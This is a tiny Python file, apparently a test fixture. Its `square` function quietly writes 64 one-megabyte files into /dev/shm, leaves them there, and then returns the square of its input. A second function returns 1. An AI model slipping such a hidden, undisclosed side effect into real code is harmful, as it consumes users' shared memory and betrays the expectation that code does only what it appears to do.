def square(x):
    for number in range(64):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
    return x * x


def one():
    return 1
